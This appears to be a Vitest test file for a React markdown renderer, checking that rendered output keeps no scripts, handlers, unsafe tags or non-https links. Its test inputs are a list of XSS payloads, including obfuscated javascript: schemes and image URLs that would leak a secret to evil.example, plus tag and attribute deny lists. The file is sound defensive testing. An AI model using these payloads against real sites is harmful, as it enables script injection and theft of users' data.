import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { AnswerMarkdown } from './answer-markdown.tsx'

function render(text: string): string {
  return renderToStaticMarkup(createElement(AnswerMarkdown, { text }))
}

/** Every tag of the markup, with its attributes. */
function tagsOf(markup: string): { name: string; attributes: Record<string, string> }[] {
  return [...markup.matchAll(/<([a-z][\w-]*)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(
    ([, name = '', rest = '']) => ({
      name: name.toLowerCase(),
      attributes: Object.fromEntries(
        [...rest.matchAll(/([\w:-]+)(?:="([^"]*)")?/g)].map(([, key = '', value = '']) => [key.toLowerCase(), value]),
      ),
    }),
  )
}

const LEFT_OUT = ['script', 'img', 'image', 'iframe', 'object', 'embed', 'svg', 'math', 'form', 'style', 'link', 'base']
const ALSO_OUT = ['meta', 'video', 'audio', 'source', 'details', 'template', 'textarea', 'body', 'html', 'marquee']

const nasty = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  'text <img src="https://evil.example/?q=secret"> text',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="//evil.example">',
  '<body onload=alert(1)>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form action="https://evil.example"><input name=q></form>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](java&#9;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](http://evil.example)',
  '[x](//evil.example)',
  '[x](/api/target)',
  '[x](#prompt)',
  '[x](tel:123)',
  '[x](intent://evil#Intent;end)',
  '<javascript:alert(1)>',
  '<http://evil.example>',
  'http://evil.example and www.evil.example',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](https://good.example" onclick="alert(1))',
  '[x](https://good.example "t\\" onclick=alert(1)")',
  '![x](https://evil.example/?q=secret)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x][i]\n\n[i]: https://evil.example/x.png',
  '[![x](https://evil.example/x.png)](https://good.example)',
  '```html\n<script>alert(1)</script>\n```',
  '```js"onmouseover="alert(1)\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |',
  'x[^1]\n\n[^1]: <script>alert(1)</script>',
  '# <script>alert(1)</script>',
  '- [ ] <img src=x onerror=alert(1)>',
]

describe('nasty text', () => {
  test.each(nasty)('%j brings in nothing that acts', (text) => {
    const tags = tagsOf(render(text))
    expect(tags.length).toBeGreaterThan(0)
    for (const { name, attributes } of tags) {
      expect([...LEFT_OUT, ...ALSO_OUT]).not.toContain(name)
      for (const [key, value] of Object.entries(attributes)) {
        expect(key).not.toMatch(/^on|^style$|^src|^action$|^formaction$|^srcdoc$|^xlink/)
        if (key === 'href') expect(value).toMatch(/^(?:https:|mailto:)/)
      }
    }
  })
})

describe('a link', () => {
  const outward = 'target="_blank" rel="noopener noreferrer nofollow"'

  test('leads out by https or mail, and tells nothing of where it was', () => {
    expect(render('[a](https://a.example/?b=c)')).toContain(`<a href="https://a.example/?b=c" ${outward}>a</a>`)
    expect(render('ada@a.example')).toContain(`<a href="mailto:ada@a.example" ${outward}>`)
    expect(render('https://a.example')).toContain(`<a href="https://a.example" ${outward}>`)
  })

  test('that leads elsewhere is its text', () => {
    expect(render('[a](http://a.example)')).toBe('<div class="markdown"><p><span>a</span></p></div>')
  })
})

test('an image is its description', () => {
  expect(render('![a view](https://a.example/x.png)')).toContain('<span class="image">a view</span>')
  expect(render('![](https://a.example/x.png)')).toContain('<span class="image">Image</span>')
})

test('raw HTML is shown as it was written', () => {
  expect(render('a <b>bold</b> claim')).toContain('a &lt;b&gt;bold&lt;/b&gt; claim')
})

test('code is shown whole, with its language', () => {
  const markup = render('```json\n{ "a": "<b>" }\n\n```\n')
  expect(markup).toContain('<span>json</span>')
  expect(markup).toContain('<code>{ &quot;a&quot;: &quot;&lt;b&gt;&quot; }\n\n</code>')
  expect(render('    plain')).toContain('<span>text</span>')
})

test('a table aligns by classes', () => {
  const markup = render('| a | b |\n|--:|:-:|\n| 1 | 2 |')
  expect(markup).toContain('<th class="align-right">a</th>')
  expect(markup).toContain('<td class="align-center">2</td>')
})
